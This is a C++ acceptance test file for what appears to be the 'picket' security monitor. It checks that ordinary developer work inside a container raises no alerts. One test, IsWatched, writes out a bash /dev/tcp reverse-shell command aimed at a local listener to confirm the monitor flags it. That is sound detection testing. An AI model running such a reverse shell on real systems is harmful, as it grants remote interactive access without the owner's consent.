// The gate of honest work: what developers and their agents do all day, by the real tools, in a
// workspace with the shipped rules and nothing else: no alert at NOTICE or above. Each script of
// work/ is one kind of work and fails when a tool did not do it. PICKET_WORK_SCALE is how much of
// everything (1); PICKET_WORK_ONLY names one script.
#include <algorithm>
#include <filesystem>

#include "tests/acceptance/acceptance_test.h"

namespace picket::test {
namespace {

namespace fs = std::filesystem;

std::string setting(const char* name, const char* otherwise) {
  const char* value = std::getenv(name);
  return value != nullptr ? value : otherwise;
}

std::vector<fs::path> scripts_in(const fs::path& folder) {
  const std::string only = setting("PICKET_WORK_ONLY", "");
  std::vector<fs::path> found;
  for (const auto& entry : fs::directory_iterator(folder)) {
    const std::string name = entry.path().stem();
    if (name != "lib" && (only.empty() || name == only)) found.push_back(entry.path());
  }
  std::sort(found.begin(), found.end());
  return found;
}

class HonestWork : public AcceptanceTest {
 protected:
  void SetUp() override {
    AcceptanceTest::SetUp();
    if (IsSkipped() || HasFatalFailure()) return;
    deploy();
    if (HasFatalFailure()) return;
    // Where they lie here a workspace's user may have no way to: below /root, say.
    scripts_ = sandbox().path("work");
    fs::copy(PICKET_WORK_FOLDER, scripts_);
    workspace_ = make_container({.image = "developer", .binds = {scripts_}});
    ASSERT_TRUE(workspace_);
  }

  void work(const std::string& script) {
    const auto begun = std::chrono::steady_clock::now();
    const auto ended =
        workspace_->run({"setpriv", "--reuid=1000", "--regid=1000", "--clear-groups", "env",
                         "HOME=/home/dev", "USER=dev", "LC_ALL=C.UTF-8",
                         "SCALE=" + setting("PICKET_WORK_SCALE", "1"), "bash", script});
    ASSERT_TRUE(ended.ok()) << ended.status();
    ASSERT_EQ(ended->exit_code, 0) << script << ": " << ended->out;
    fmt::print("{:>6.1f} s  {}\n",
               std::chrono::duration<double>(std::chrono::steady_clock::now() - begun).count(),
               fs::path(script).stem().string());
  }

  std::unique_ptr<Container> workspace_;
  fs::path scripts_;
};

TEST_F(HonestWork, DisturbsNobody) {
  const auto all = scripts_in(scripts_);
  ASSERT_FALSE(all.empty());
  for (const fs::path& script : all) work(script);
  for (const Alert& alert : accusations(alerts_so_far(*workspace_))) ADD_FAILURE() << alert.dump(1);
}

// The same workspace does not keep quiet about what is not honest.
TEST_F(HonestWork, IsWatched) {
  ASSERT_TRUE(workspace_->run({"contact", "serve", "127.0.0.1", "4999"}).ok());
  ASSERT_TRUE(
      workspace_->launch({"bash", "-c", "exec bash -i <>/dev/tcp/127.0.0.1/4999 >&0 2>&0"}).ok());
  const auto alert = deployment().alerts().wait_for(
      "the alert of a reverse shell",
      [&](const Alert& one) { return of(*workspace_, one) && accuses(one); });
  EXPECT_TRUE(alert.ok()) << alert.status();
}

// With the profile that is shipped for workspaces the tools do their work as well, and no more is
// told of it: compilers, debuggers, packages, servers.
TEST_F(HonestWork, GoesOnBehindTheProfileForWorkspaces) {
  workspace_ =
      make_container({.image = "developer", .binds = {scripts_}, .seccomp = PICKET_PROFILE});
  ASSERT_TRUE(workspace_);
  for (const char* name : {"build_and_debug", "serve"}) work(scripts_ / fmt::format("{}.sh", name));
  for (const Alert& alert : accusations(alerts_so_far(*workspace_))) ADD_FAILURE() << alert.dump(1);
}

}  // namespace
}  // namespace picket::test
